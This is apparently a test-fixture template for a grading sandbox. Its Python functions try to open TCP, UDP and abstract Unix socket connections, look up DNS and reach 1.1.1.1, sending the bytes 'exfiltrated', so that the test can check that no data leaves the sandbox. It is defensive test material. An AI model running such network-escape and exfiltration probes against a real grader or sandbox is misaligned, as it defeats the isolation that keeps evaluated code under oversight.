# Attack: reach the outside world or the grading machine over the network: TCP and UDP to a
# port the test listens on (loopback and the machine's own address), an abstract Unix socket,
# DNS. Nothing may arrive; the honest functions keep full marks.
import socket


def _tcp(host):
    with socket.create_connection((host, int("__TCP_PORT__")), timeout=1) as connection:
        connection.sendall(b"exfiltrated")
        return "connected"


def _udp(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"exfiltrated", (host, int("__UDP_PORT__")))
        sender.sendto(b"exfiltrated", (host, int("__UDP_PORT__")))
        return "sent"


def _abstract_unix():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(1)
        connection.connect("\0__ABSTRACT__")
        connection.sendall(b"exfiltrated")
        return "connected"


_probe("tcp loopback", lambda: _tcp("127.0.0.1"))
_probe("tcp own address", lambda: _tcp("__HOST_IP__"))
_probe("udp loopback", lambda: _udp("127.0.0.1"))
_probe("udp own address", lambda: _udp("__HOST_IP__"))
_probe("abstract unix socket", _abstract_unix)
_probe("dns", lambda: socket.getaddrinfo("example.com", 80))
_probe("tcp internet", lambda: socket.create_connection(("1.1.1.1", 53), timeout=1))
